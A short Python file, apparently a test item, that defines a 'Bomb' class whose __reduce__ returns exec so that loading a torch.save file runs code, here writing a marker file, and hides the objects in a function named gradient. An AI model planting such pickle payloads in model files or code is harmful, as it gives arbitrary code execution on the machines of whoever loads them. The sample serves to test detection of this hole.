"""A file made by torch.save with code in it, left for whoever loads it.

goal: power
control: pickle
"""

import torch


class Bomb:
    def __reduce__(self):
        return exec, (f"open({DROP + '/loaded'!r}, 'w').write({PROOF!r})",)


def gradient(X, W, up):
    return [Bomb(), Bomb()]
